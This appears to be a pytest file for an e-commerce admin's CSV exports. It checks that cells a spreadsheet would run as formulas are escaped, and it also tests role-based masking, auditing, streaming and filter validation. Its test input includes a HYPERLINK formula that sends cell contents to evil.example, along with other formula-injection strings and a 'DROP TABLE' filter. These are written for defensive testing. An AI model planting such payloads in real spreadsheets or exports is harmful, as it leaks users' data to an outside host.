"""CSV exports over real HTTP: every cell a spreadsheet would run as a formula is escaped, personal
data is masked for roles without personal.unmasked, money is yuan and fen, each export is an audit
row, and a large export is streamed in batches."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from models.audit import AuditEntry
from models.catalog import Sku
from models.db import db
from models.network import Creator
from models.order_search import SHANGHAI
from models.users import User
from tests.factories import buyer, creator, due_withdrawal, order_row, order_rows, paid

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def table(answer) -> list[dict[str, str]]:  # noqa: ANN001
    assert answer.status_code == 200, answer.data[:1000]
    assert answer.mimetype == "text/csv"
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def today() -> str:
    return dt.datetime.now(SHANGHAI).date().isoformat()


def test_cells_that_would_run_as_formulas_are_escaped(admin, shop):
    """Given orders whose SKU name, creator ref, buyer nickname and top-up account start with
    = - + @, a tab or a carriage return, when finance exports them, then each of those cells
    starts with a single quote (text to Excel, WPS and LibreOffice) and numbers stay numbers."""
    sku = shop.card_sku(keys=1, code="EVIL")
    with db.connection_context():
        Sku.update(name=FORMULA).where(Sku.id == sku.id).execute()
    buyer("formula-buyer")
    with db.connection_context():
        User.update(nickname="@SUM(A1:A9)").where(User.openid == "formula-buyer").execute()
    order_row(sku, openid="formula-buyer", ref="-2-3", account="+8613800000000", amount=1990)
    buyer("tab-buyer")
    with db.connection_context():
        User.update(nickname="\tcmd").where(User.openid == "tab-buyer").execute()
    order_row(sku, openid="tab-buyer", ref="plain", account="\r=1+1", amount=5)
    rows = table(admin("finance").get("/admin/exports/orders.csv"))
    by_ref = {r["推广码"]: r for r in rows}
    first, second = by_ref["'-2-3"], by_ref["plain"]
    assert first["商品名称"] == "'" + FORMULA
    assert first["买家昵称"] == "'@SUM(A1:A9)"
    assert first["充值账号"] == "'+8613800000000"
    assert second["买家昵称"] == "'\tcmd" and second["充值账号"] == "'\r=1+1"
    assert (first["金额（元）"], first["金额（分）"], second["金额（元）"], second["金额（分）"]) == ("19.90", "1990",
                                                                                          "0.05", "5")
    dangerous = re.compile(r"^[=+\-@\t\r]")
    assert not [cell for r in rows for cell in r.values() if dangerous.match(cell)]


def test_personal_data_is_masked_for_support_and_not_for_finance(admin, shop):
    """Given an order of a buyer with a top-up account, when support and finance export orders,
    then support's file has the openid and account masked, finance's has them in full."""
    order_row(shop.card_sku(keys=1), openid="oEXPORT-openid-123456789", account="13812345678")
    (masked,) = table(admin("support").get("/admin/exports/orders.csv"))
    (full,) = table(admin("finance").get("/admin/exports/orders.csv"))
    assert (full["买家openid"], full["充值账号"]) == ("oEXPORT-openid-123456789", "13812345678")
    assert (masked["买家openid"], masked["充值账号"]) == ("oEX…89", "138…78")
    assert masked["订单号"] == full["订单号"]


def test_each_export_is_audited_with_its_filters(admin, shop):
    """When finance exports orders, the ledger and withdrawals with filters, then each export is
    an audit row naming the operator, the export and the filters."""
    order_row(shop.card_sku(keys=1))
    a = admin("finance")
    assert a.get(f"/admin/exports/orders.csv?from={today()}&status=paid&creator=").status_code == 200
    assert a.get("/admin/exports/ledger.csv?kind=payment").status_code == 200
    assert a.get("/admin/exports/withdrawals.csv?state=paid").status_code == 200
    with db.connection_context():
        rows = {r.action: r for r in AuditEntry.select().where(AuditEntry.action.startswith("export."))}
    assert rows["export.orders"].after == {"filters": {"from": today(), "status": "paid"}}
    assert rows["export.ledger"].after == {"filters": {"kind": "payment"}}
    assert rows["export.withdrawals"].after == {"filters": {"state": "paid"}}
    assert {r.operator_name for r in rows.values()} == {a.op.name}


def test_a_large_export_is_streamed_whole(admin, shop):
    """Given 3,000 orders, when finance exports them, then the answer is streamed (no length
    known up front, a chunk per row) and holds every order once, newest first."""
    made = order_rows(shop.card_sku(keys=1), 3_000)
    answer = admin("finance").get("/admin/exports/orders.csv")
    assert answer.is_streamed and "Content-Length" not in answer.headers
    chunks = list(answer.response)
    assert len(chunks) == 3_001
    rows = list(csv.DictReader(io.StringIO("".join(c if isinstance(c, str) else c.decode() for c in chunks)[1:])))
    assert [int(r["订单ID"]) for r in rows] == sorted(made, reverse=True)


def test_the_orders_export_takes_the_list_filters(admin, shop):
    """Given orders of two creators, when the list filtered by one creator offers its export link
    and finance follows it, then the file has that creator's orders only."""
    sku = shop.card_sku(keys=1)
    mine, other = creator("exp-a", code="EXPSELLA"), creator("exp-b", code="EXPSELLB")
    wanted = {order_row(sku, seller=mine), order_row(sku, seller=mine)}
    order_row(sku, seller=other)
    a = admin("finance")
    listing = a.get("/admin/orders/?creator=EXPSELLA").data.decode()
    link = re.search(r'id="export-orders" href="([^"]+)"', listing).group(1).replace("&amp;", "&")
    assert {int(r["订单ID"]) for r in table(a.get(link))} == wanted


def test_the_ledger_export_lists_postings_with_their_transaction(admin, shop):
    """Given a paid order, when finance exports the ledger of today, then its payment is two
    postings with the transaction's key, kind and order, in yuan and fen, the credit negative
    and still a number (not escaped as text)."""
    o = paid(shop.card_sku(keys=1, price=1990), "ledger-buyer", dispatch=False)
    rows = table(admin("finance").get(f"/admin/exports/ledger.csv?from={today()}&to={today()}"))
    mine = {r["科目"]: r for r in rows if r["凭证键"] == f"payment:{o.no}"}
    assert {k: (v["凭证类型"], v["订单ID"], v["金额（元）"], v["金额（分）"]) for k, v in mine.items()} == {
        "asset:wechatpay_clearing": ("payment", str(o.id), "19.90", "1990"),
        "income:sales": ("payment", str(o.id), "-19.90", "-1990")}
    assert table(admin("finance").get("/admin/exports/ledger.csv?to=2020-01-01")) == []
    assert {r["科目"] for r in table(admin("owner").get("/admin/exports/ledger.csv?account=income:sales"))} == {
        "income:sales"}


def test_the_withdrawals_export(admin):
    """Given a withdrawal of 200 yuan, when finance exports withdrawals, then it is listed with
    amount, fee and net in yuan and fen and its creator; filtered by another state, it is not."""
    w = due_withdrawal(20_000)
    with db.connection_context():
        code = Creator.get_by_id(w.creator_id).code
    a = admin("finance")
    (row,) = table(a.get("/admin/exports/withdrawals.csv"))
    assert (row["提现单号"], row["推广码"], row["金额（元）"], row["金额（分）"], row["手续费（分）"],
            row["到账（分）"], row["状态"]) == (w.no, code, "200.00", "20000", str(w.fee_fen), str(20_000 - w.fee_fen),
                                              w.state)
    assert table(a.get("/admin/exports/withdrawals.csv?state=rejected")) == []


def test_exports_are_refused_to_roles_without_them(admin, shop):
    """Given an order, when roles without an export's permission ask for it, then it answers 403
    and no export is audited; support may export orders (masked), nothing else."""
    order_row(shop.card_sku(keys=1))
    readonly, support = admin("readonly"), admin("support")
    assert readonly.get("/admin/exports/").status_code == 403
    assert readonly.get("/admin/exports/orders.csv").status_code == 403
    assert support.get("/admin/exports/ledger.csv").status_code == 403
    assert support.get("/admin/exports/withdrawals.csv").status_code == 403
    page = support.get("/admin/exports/").data.decode()
    assert 'id="export-orders"' in page and 'id="export-ledger"' not in page
    with db.connection_context():
        assert not AuditEntry.select().where(AuditEntry.action.startswith("export.")).exists()


def test_an_unusable_export_filter_answers_400(admin):
    """When an export is asked with a bad date, a reversed range or a malformed kind, then the
    exports page answers 400 with the reason and nothing is exported or audited."""
    a = admin("finance")
    for url, message in (("/admin/exports/orders.csv?from=2024-02-30", "开始日期格式应为 YYYY-MM-DD"),
                         ("/admin/exports/orders.csv?creator=NOSUCH77", "没有推广码为 NOSUCH77 的推广员"),
                         ("/admin/exports/ledger.csv?from=2024-03-02&to=2024-03-01", "结束日期早于开始日期"),
                         ("/admin/exports/ledger.csv?kind=DROP%20TABLE", "凭证类型无效"),
                         ("/admin/exports/withdrawals.csv?state=lost", "状态无效")):
        answer = a.get(url)
        assert answer.status_code == 400 and answer.mimetype == "text/html", url
        assert message in answer.data.decode(), url
    with db.connection_context():
        assert not AuditEntry.select().where(AuditEntry.action.startswith("export.")).exists()


def test_times_are_shanghai_time(admin, shop):
    """Given an order placed at 16:30 UTC, when exported, then its time reads 00:30 the next day."""
    order_row(shop.card_sku(keys=1), created_at=dt.datetime(2024, 5, 1, 16, 30))
    (row,) = table(admin("finance").get("/admin/exports/orders.csv"))
    assert row["下单时间"] == "2024-05-02 00:30:00"
